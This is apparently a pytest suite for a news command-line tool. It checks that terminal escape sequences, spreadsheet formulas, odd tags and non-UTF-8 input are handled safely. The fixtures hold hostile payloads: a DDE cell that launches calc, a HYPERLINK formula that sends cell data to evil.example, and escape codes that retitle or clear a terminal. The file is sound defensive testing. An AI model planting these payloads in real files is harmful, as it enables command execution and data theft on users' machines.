"""Hostile text on the way out: terminal escapes, spreadsheet formulas, tag lists, stdout errors."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import on_terminal
from newscli import formats

ESCAPES = "\x1b]0;pwned\x07\x1b[31m"
C1_CSI = "\x9b"  # a terminal's one-character CSI: `\x9b2J` clears the screen
HOSTILE = {
    "title": f"Evil {ESCAPES}title {C1_CSI}2J", "author": f"Bad {ESCAPES}author",
    "source": "=cmd|' /C calc'!A0", "published": "2024-01-02",
    "tags": [f"t{ESCAPES}ag", "@SUM(1+1)"], "body": f"Body {ESCAPES} and {C1_CSI}31m text.",
}
FORMULA = {"title": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "source": "+Wire",
           "author": "-Ada", "published": "2024-01-03", "tags": ["=x"],
           "body": "A plain body about a ferry."}


def newscli(db: Path, *args: str) -> list[str]:
    return [sys.executable, "-m", "newscli", "--db", str(db), *args]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    feed = folder / "feed.jsonl"
    feed.write_text("".join(json.dumps(r) + "\n" for r in (HOSTILE, FORMULA)), encoding="utf-8")
    db = folder / "h.db"
    subprocess.run(newscli(db, "import", str(feed)), check=True, capture_output=True)
    return db


# -- 5: terminal escapes -------------------------------------------------------------------------

TERMINAL_COMMANDS = [
    ["export", "--format", "markdown"], ["export", "--format", "csv"], ["export"],
    ["export", "--format", "json"], ["tags", "--format", "csv"],
    ["stats", "--by", "author", "--format", "csv"], ["stats", "--by", "author", "--format", "json"],
    ["list", "--format", "csv"], ["list", "--format", "json"], ["list"], ["search", "body"],
    ["show", "evil"], ["show", "evil", "--format", "json"], ["show", "evil", "--format", "markdown"],
    ["tags"], ["dupes", "--format", "csv"],
]


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="pseudo-terminal test")
@pytest.mark.parametrize("args", TERMINAL_COMMANDS, ids=" ".join)
def test_every_command_shows_escapes_literally_on_a_terminal(hostile_db, args):
    code, out = on_terminal(newscli(hostile_db, *args))
    assert code in (0, 1)
    text = out.decode("utf-8")
    assert "\x1b]" not in text and "\x07" not in text and "\x1b[31m" not in text
    assert C1_CSI not in text
    if code == 0 and args[0] != "dupes":
        assert "\\x1b" in text or "\\u001b" in text or "\\e" in text  # shown, not dropped


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="pseudo-terminal test")
def test_info_path_shows_an_escape_in_the_file_name_literally(hostile_db, tmp_path):
    db = tmp_path / "\x1b[31mred.db"
    db.write_bytes(hostile_db.read_bytes())
    code, out = on_terminal(newscli(db, "info", "--path"))
    assert code == 0 and b"\x1b" not in out and b"\\x1b[31mred.db" in out
    piped = subprocess.run(newscli(db, "info", "--path"), capture_output=True, text=True)
    assert piped.stdout == f"{db.resolve()}\n"  # piped, the name as it is, for other tools


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="pseudo-terminal test")
@pytest.mark.parametrize("command", ["list", "export"])
def test_csv_on_a_terminal_keeps_its_line_ends(hostile_db, command):
    _, out = on_terminal(newscli(hostile_db, command, "--format", "csv"))
    assert b"\\x0d" not in out and out.count(b"\r\n") >= 3  # CRLF row ends are not escaped


@pytest.mark.parametrize("args", [
    ["list", "--format", "json"], ["list", "--format", "jsonl"], ["export"],
    ["export", "--format", "json"], ["show", "evil", "--format", "json"],
    ["stats", "--by", "author"],
])
def test_json_escapes_every_control_character_piped(hostile_db, args):
    proc = subprocess.run(newscli(hostile_db, *args), capture_output=True)
    assert proc.returncode == 0, proc.stderr
    text = proc.stdout.decode("utf-8")
    assert not any(0x7f <= ord(c) <= 0x9f or ord(c) < 0x20 and c != "\n" for c in text)
    assert "\\u009b" in text or args[0] == "stats"
    lines = args[-1] == "jsonl" or args == ["export"]
    data = [json.loads(line) for line in text.splitlines()] if lines else json.loads(text)
    assert data


def test_json_line_escapes_c1_del_and_lone_surrogates():
    line = formats.to_json_line({"t": "a\x7fb\x85c\x9bd\ud800e\u00a0f\x1b"})
    assert line == '{"t": "a\\u007fb\\u0085c\\u009bd\\ud800e\u00a0f\\u001b"}'
    assert json.loads(line)["t"] == "a\x7fb\x85c\x9bd\ud800e\u00a0f\x1b"
    line.encode("utf-8")  # a lone surrogate no longer makes the output unencodable


# -- 6: spreadsheet formulas ---------------------------------------------------------------------


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("\nx", "'\nx"), ("a=1", "a=1"), ("'=1", "'=1"),
    ("", ""), ("Ferry", "Ferry"),
])
def test_formula_cells_are_neutralised(cell, written):
    assert formats.spreadsheet_cell(cell) == written
    assert formats.spreadsheet_cell(cell, raw=True) == cell


def test_numbers_are_never_neutralised():
    assert formats.spreadsheet_cell(-3) == "-3" and formats.spreadsheet_cell(2.5) == "2.5"
    assert formats.spreadsheet_cell(["=a", "b"]) == "'=a;b"


def test_tsv_cells_neutralised_after_flattening():
    out = io.StringIO()
    formats.write_delimited([{"a": "\t=1", "b": "x"}], out, ("a", "b"), tsv=True)
    assert out.getvalue().splitlines()[1] == "'=1\tx"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.text(), st.integers(), st.lists(st.text(), max_size=3)), min_size=1,
                max_size=6))
def test_no_csv_cell_ever_starts_a_formula(values):
    """Whatever the cells, CSV read back has none a spreadsheet would run, and each is the
    value as flat() writes it, with at most a leading `'` added."""
    columns = [f"c{i}" for i in range(len(values))]
    out = io.StringIO()
    formats.write_delimited([dict(zip(columns, values, strict=True))], out, columns)
    (row,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    for value, cell in zip(values, row, strict=True):
        if isinstance(value, int):
            assert cell == str(value)
        else:
            assert not cell.startswith(formats.FORMULA_STARTS)
            assert cell in (formats.flat(value), "'" + formats.flat(value))


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _formula_row(rows: list[dict[str, str]]) -> dict[str, str]:
    return next(r for r in rows if "HYPERLINK" in r["title"])


@pytest.mark.parametrize("extra", [[], ["--excel"]])
def test_export_csv_neutralises_formulas_by_default_and_for_excel(hostile_db, extra):
    proc = subprocess.run(newscli(hostile_db, "export", "--format", "csv", *extra),
                          capture_output=True)
    assert proc.returncode == 0, proc.stderr
    row = _formula_row(_csv_rows(proc.stdout))
    assert row["title"] == "'" + FORMULA["title"]
    assert (row["source"], row["author"], row["tags"]) == ("'+Wire", "'-Ada", "'=x")
    assert row["word_count"] == "6"
    cells = [c for r in _csv_rows(proc.stdout) for c in r.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("args", [
    ["list", "--format", "csv"], ["list", "--format", "tsv"], ["list"],
    ["search", "ferry OR body", "--format", "csv"], ["tags", "--format", "csv"],
    ["stats", "--by", "source", "--format", "csv"], ["stats", "--by", "author", "--format", "csv"],
])
def test_every_csv_and_tsv_listing_neutralises_formulas(hostile_db, args):
    proc = subprocess.run(newscli(hostile_db, *args), capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    delimiter = "," if "csv" in args else "\t"
    rows = list(csv.reader(io.StringIO(proc.stdout, newline=""), delimiter=delimiter))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert any(c[:2] in ("'=", "'+", "'-", "'@") for c in cells)


def test_raw_cells_gives_cells_as_stored(hostile_db):
    proc = subprocess.run(newscli(hostile_db, "export", "--format", "csv", "--raw-cells"),
                          capture_output=True)
    assert proc.returncode == 0, proc.stderr
    assert _formula_row(_csv_rows(proc.stdout))["title"] == FORMULA["title"]
    listed = subprocess.run(newscli(hostile_db, "list", "--format", "tsv", "--raw-cells"),
                            capture_output=True, text=True)
    assert "\t=HYPERLINK" in listed.stdout and "\t+Wire\t" in listed.stdout


@pytest.mark.parametrize(("args", "says"), [
    (["--format", "csv", "--excel", "--raw-cells"], "one or the other"),
    (["--format", "json", "--raw-cells"], "only applies to --format csv"),
])
def test_raw_cells_refused_where_it_cannot_apply(hostile_db, args, says):
    proc = subprocess.run(newscli(hostile_db, "export", *args), capture_output=True, text=True)
    assert proc.returncode == 2 and proc.stdout == ""
    assert says in proc.stderr and "Traceback" not in proc.stderr


# -- 11: stdout that cannot be written -----------------------------------------------------------


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
@pytest.mark.parametrize("args", [
    ["list", "--format", "jsonl"], ["list"], ["export"], ["export", "--format", "csv"],
    ["show", "evil"], ["show", "evil", "--format", "json"], ["info", "--path"], ["tags"],
    ["stats", "--by", "source"], ["--version"],
])
def test_a_full_stdout_is_one_line_and_exit_1(hostile_db, args):
    with open("/dev/full", "w") as full:
        proc = subprocess.run(newscli(hostile_db, *args), stdout=full, stderr=subprocess.PIPE,
                              text=True)
    assert proc.returncode == 1
    assert proc.stderr == "newscli: error: cannot write the output: no space left on device\n"


@pytest.mark.parametrize("args", [["export"], ["export", "--format", "csv"], ["list"]])
def test_a_closed_pipe_is_still_success(hostile_db, args):
    command = " ".join(f"'{a}'" for a in newscli(hostile_db, *args)) + " | head -c 5"
    proc = subprocess.run(["bash", "-o", "pipefail", "-c", command], capture_output=True,
                          text=True)
    assert proc.returncode == 0 and proc.stderr == "" and len(proc.stdout) == 5


# -- 14, 15: what a file's bytes decode to -------------------------------------------------------


@pytest.mark.parametrize(("data", "text", "guess"), [
    # UTF-8 with one Latin-1 byte: the UTF-8 stays UTF-8, the stray byte is cp1252
    ("Mixed café Title\n\nnaïve 日本語\n".encode().replace("ï".encode(), b"\xef"),
     "Mixed café Title\n\nnaïve 日本語\n", "utf-8, 1 stray byte read as cp1252"),
    # plain ASCII but for a pound and a degree sign: not a Japanese code page
    (b"Prices\n\nA ticket costs \xa314 at 20\xb0C.\n", "Prices\n\nA ticket costs £14 at 20°C.\n",
     "cp1252"),
    (b"\xa9 2024 Herald", "© 2024 Herald", "cp1252"),  # was half-width katakana
    (b"Temperature 20\xb0C", "Temperature 20°C", "cp1252"),  # was a CJK character
    (b"Caf\xe9", "Café", "cp1252"),
    (b"Title \x9b\n\nBody.\n", "Title ›\n\nBody.\n", "cp1252"),  # 0x9B is cp1252, not DOS Ы
    (b"Quote\n\nShe said \x9bno\x9b.\n", "Quote\n\nShe said ›no›.\n", "cp1252"),
    (b"Undefined \x81 byte\n", "Undefined \x81 byte\n", "cp1252"),  # as browsers read it
    ("Café Müller\n".encode(), "Café Müller\n", None),  # valid UTF-8: nothing guessed
    ("Новости порта\n\nПаром начал ночные рейсы между островами.\n".encode("cp1251"),
     "Новости порта\n\nПаром начал ночные рейсы между островами.\n", "cp1251"),
    ("La señora Müller visitó la façade naïve: £14 à la carte.\n".encode("latin-1"),
     "La señora Müller visitó la façade naïve: £14 à la carte.\n", "cp1252"),
])
def test_decoding_keeps_utf8_runs_and_reads_lone_bytes_as_cp1252(data, text, guess):
    from newscli.parsing.decode import decode_noting

    decoded = decode_noting(data)
    assert (decoded.text, decoded.guess) == (text, guess)


def test_the_guess_is_kept_in_meta_and_named_in_the_report(cli, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "mixed.txt").write_bytes(
        "Mixed café Title\n\nA naïve story about 日本語 text.\n".encode().replace(b"\xc3\xaf", b"\xef"))
    (folder / "pound.txt").write_bytes(b"Pound note\n\nIt cost \xa314.\n")
    (folder / "fine.txt").write_bytes("Fine café\n\nAll UTF-8.\n".encode())
    result = cli("import", str(folder))
    assert result.exit_code == 0, result.stderr
    assert "mixed.txt: text encoding guessed: utf-8, 1 stray byte read as cp1252" in result.stderr
    assert "pound.txt: text encoding guessed: cp1252" in result.stderr
    assert "fine.txt" not in result.stderr
    exported = (json.loads(line) for line in cli("export").stdout.splitlines())
    articles = {article["title"]: article for article in exported}
    assert articles["Mixed café Title"]["body"] == "A naïve story about 日本語 text."
    assert articles["Mixed café Title"]["meta"]["guessed_encoding"].startswith("utf-8, 1 stray")
    assert articles["Pound note"]["body"] == "It cost £14."
    assert articles["Pound note"]["meta"] == {"guessed_encoding": "cp1252"}
    assert "guessed_encoding" not in articles["Fine café"]["meta"]
    assert cli("search", "日本語", "--format", "slugs").stdout == "mixed-cafe-title\n"


# -- 9: arguments that are not UTF-8 -------------------------------------------------------------


@pytest.fixture(scope="module")
def cafe_db(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("cafe")
    (folder / "cafe.txt").write_text("Café owners\n\nThe café reopened on Monday.\n", "utf-8")
    db = folder / "c.db"
    subprocess.run(newscli(db, "import", str(folder / "cafe.txt")), check=True,
                   capture_output=True)
    return db


def run_bytes(db: Path, *args: str | bytes) -> subprocess.CompletedProcess:
    """newscli with arguments as raw bytes, as a Latin-1 terminal passes them."""
    command = [os.fsencode(a) if isinstance(a, str) else a for a in newscli(db)] + [
        a.encode() if isinstance(a, str) else a for a in args]
    return subprocess.run(command, capture_output=True, env={**os.environ, "LC_ALL": "C.UTF-8"})


@pytest.mark.parametrize(("args", "code", "stdout"), [
    (["search", b"caf\xe9", "--format", "slugs"], 0, b"cafe-owners\n"),  # Latin-1 "café"
    (["search", b"caf\xc3\xa9", "--format", "slugs"], 0, b"cafe-owners\n"),  # UTF-8 "café"
    (["list", "--source", b"\xff", "--format", "slugs"], 1, b""),  # read, and nothing found
    (["list", "--author", b"\xe9", "--format", "slugs"], 1, b""),
    (["stats", b"caf\xe9", "--format", "json"], 0, None),
    (["export", b"caf\xe9", "--format", "csv"], 0, None),
    (["related", b"\xff"], 1, b""),
    (["rm", b"\xff", "--yes"], 1, b""),
])
def test_latin1_arguments_are_read_as_the_terminal_meant(cafe_db, args, code, stdout):
    proc = run_bytes(cafe_db, *args)
    assert proc.returncode == code, proc.stderr
    assert b"Traceback" not in proc.stderr and b"UnicodeEncodeError" not in proc.stderr
    if stdout is not None:
        assert proc.stdout == stdout
    if code == 1:
        assert proc.stderr.count(b"\n") == 1
    if args[0] in ("related", "rm"):  # the reference not found is named, as the user meant it
        assert "ÿ".encode() in proc.stderr


def test_show_names_the_latin1_slug_it_could_not_find(cafe_db):
    proc = run_bytes(cafe_db, "show", b"\xff")
    assert proc.returncode == 1 and proc.stdout == b""
    assert b"Traceback" not in proc.stderr and "'ÿ'".encode() in proc.stderr


def test_a_latin1_tag_is_stored_as_text(cafe_db, tmp_path):
    db = tmp_path / "copy.db"
    db.write_bytes(cafe_db.read_bytes())
    assert run_bytes(db, "tag", "cafe-owners", "--add", b"caf\xe9").returncode == 0
    listed = run_bytes(db, "list", "--tag", "café", "--format", "json")
    assert json.loads(listed.stdout)[0]["tags"] == ["café"]


def test_a_file_name_that_is_not_utf8_is_not_a_traceback(cafe_db, tmp_path):
    db = tmp_path / "copy.db"
    db.write_bytes(cafe_db.read_bytes())
    name = os.fsencode(tmp_path) + b"/f\xff.txt"
    with open(name, "wb") as handle:
        handle.write(b"Title\n\nA body of text.\n")
    proc = run_bytes(db, "import", name)
    assert proc.returncode in (0, 1) and b"Traceback" not in proc.stderr


# -- 7: tags and their separator -----------------------------------------------------------------

LONG_TAG = "x" * 100_000


def test_import_splits_tags_at_the_separator_and_keeps_long_ones_in_meta(cli, tmp_path):
    feed = tmp_path / "feed.jsonl"
    record = {"title": "Tag test", "body": "Some body text.", "tags": ["a;b", "ok", LONG_TAG]}
    feed.write_text(json.dumps(record) + "\n", encoding="utf-8")
    (tmp_path / "fm.md").write_text(
        "---\ntitle: Front matter\ntags: ['c; d', 'e']\n---\nBody text.\n", encoding="utf-8")
    result = cli("import", str(feed), str(tmp_path / "fm.md"))
    assert result.exit_code == 0, result.stderr
    assert "kept in meta.long_tags" in result.stderr
    exported = {a["title"]: a for a in map(json.loads, cli("export").stdout.splitlines())}
    assert exported["Tag test"]["tags"] == ["a", "b", "ok"]
    assert exported["Tag test"]["meta"]["long_tags"] == [LONG_TAG]
    assert exported["Front matter"]["tags"] == ["c", "d", "e"]
    rows = list(csv.DictReader(io.StringIO(cli("list", "--format", "csv").stdout, newline="")))
    assert sorted(t for r in rows for t in r["tags"].split(";")) == ["a", "b", "c", "d", "e", "ok"]


@pytest.mark.parametrize(("tag", "says"), [
    ("a;b", "cannot contain ';'"), ("y" * 101, "at most 100 characters"),
])
def test_tag_refuses_the_separator_and_overlong_tags(cli, tmp_path, tag, says):
    (tmp_path / "a.txt").write_text("Tagged\n\nA body.\n", encoding="utf-8")
    assert cli("import", str(tmp_path / "a.txt")).exit_code == 0
    result = cli("tag", "tagged", "--add", tag)
    assert result.exit_code == 2 and says in result.stderr and result.stderr.count("\n") == 1
    assert cli.json("list")[0]["tags"] == []  # nothing changed
    assert cli("tag", "tagged", "--add", "y" * 100).exit_code == 0  # the limit itself is fine
    refused = cli("import", str(tmp_path / "a.txt"), "--tag", tag)
    assert refused.exit_code == 2 and says in refused.stderr


@pytest.mark.parametrize(("tags_line", "says"), [
    ("tags: ['o;k']", "cannot contain ';'"), (f"tags: ['{'z' * 101}']", "at most 100"),
])
def test_edit_refuses_the_separator_and_overlong_tags(cli, tmp_path, tags_line, says):
    import shlex

    (tmp_path / "a.txt").write_text("Edited\n\nA body.\n", encoding="utf-8")
    assert cli("import", str(tmp_path / "a.txt")).exit_code == 0
    script = tmp_path / "editor.py"  # an $EDITOR that adds the tags line to the front matter
    script.write_text("import pathlib, sys\npath = pathlib.Path(sys.argv[1])\n"
                      f"path.write_text(path.read_text().replace('---\\n', {tags_line + chr(10)!r}"
                      ".join(['---\\n', '']), 1))\n", encoding="utf-8")
    editor = f"{shlex.quote(sys.executable)} {shlex.quote(str(script))}"
    result = cli("edit", "edited", env={"EDITOR": editor, "VISUAL": ""})
    assert result.exit_code == 1 and "the edit was not saved" in result.stderr
    assert says in result.stderr
    assert cli.json("list")[0]["tags"] == []


@settings(max_examples=200, deadline=None)
@given(
    text=st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
                 min_size=1).filter(lambda t: not t.isascii()),
    stray=st.integers(0x80, 0xFF),
    where=st.integers(0, 10_000),
)
def test_one_stray_byte_never_changes_the_utf8_around_it(text, stray, where):
    """Any UTF-8 text with a non-ASCII character keeps every character when one byte that is not
    UTF-8 is put between two ASCII characters (or at an end); that byte reads as cp1252."""
    from newscli.parsing.decode import as_cp1252, decode_noting

    data = text.encode("utf-8")
    cuts = [i for i in range(len(data) + 1)
            if (i == 0 or data[i - 1] < 0x80) and (i == len(data) or data[i] < 0x80)]
    if not cuts:
        return
    cut = cuts[where % len(cuts)]
    decoded = decode_noting(data[:cut] + bytes([stray]) + data[cut:])
    expected = data[:cut].decode() + as_cp1252(bytes([stray])) + data[cut:].decode()
    assert decoded.text == expected.replace("\r\n", "\n").replace("\r", "\n")
    assert decoded.guess == "utf-8, 1 stray byte read as cp1252"
